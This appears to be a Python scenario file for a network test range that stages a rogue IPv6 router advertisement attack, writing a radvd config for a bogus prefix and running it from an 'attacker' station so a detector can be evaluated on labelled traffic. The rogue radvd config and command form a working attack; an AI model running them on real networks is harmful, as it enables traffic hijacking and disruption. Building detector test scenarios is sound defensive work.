"""A station that runs a router's own program, with another prefix."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, web = net.inside("attacker"), net.router(), net.web()
    net.everyday(lead=0.5)
    servers.router_advertisements(router, "eth0", "fd00:20::/64", "fd00:20::53")
    net.loop(attacker, f"curl -s -m 2 -o /dev/null -g http://[{web.ip6}]/", 2.0)
    net.loop(web, f"ip -6 neigh flush dev eth0; ping -6 -n -q -c 1 -W 1 {attacker.ip6}", 2.5)
    net.quiet(4)
    shown = router.run("ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link").stdout
    conf = attacker.folder / "rogue.conf"
    conf.write_text(
        "interface eth0 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4;"
        " prefix fd00:bad::/64 { AdvOnLink on; AdvAutonomous on; }; };\n"
    )
    conf.chmod(0o644)
    with net.attack(
        "rogue-router-advertisement",
        by=attacker,
        attackers=[attacker.mac],
        victims=[shown.split()[3].split("/")[0]],
        frames="ip6 and ip6[6] == 58 and ip6[40] == 134",
    ):
        net.tool(
            attacker,
            *("radvd", "-n", "-C", str(conf), "-m", "stderr", "-p", str(attacker.folder / "rogue.pid")),
            seconds=14,
        )
    net.quiet(2)


SCENARIO = Scenario(
    name="rogue-router-advertisement-radvd",
    about="A station runs radvd with another prefix, as slowly and as politely as the real router.",
    detectors=("rogue-router-advertisement",),
    tools={"radvd": "radvd"},
    run=run,
    snap_octets=400,
)
